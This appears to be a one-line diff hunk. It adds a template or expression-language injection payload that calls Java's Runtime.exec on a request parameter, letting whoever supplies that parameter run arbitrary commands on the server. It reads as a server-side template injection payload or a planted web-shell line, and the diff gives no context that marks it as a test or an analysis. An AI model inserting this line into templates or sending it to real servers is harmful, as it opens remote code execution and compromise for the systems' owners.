@@ -1,0 +1,1 @@
+${Runtime.getRuntime().exec(param.tpl)}
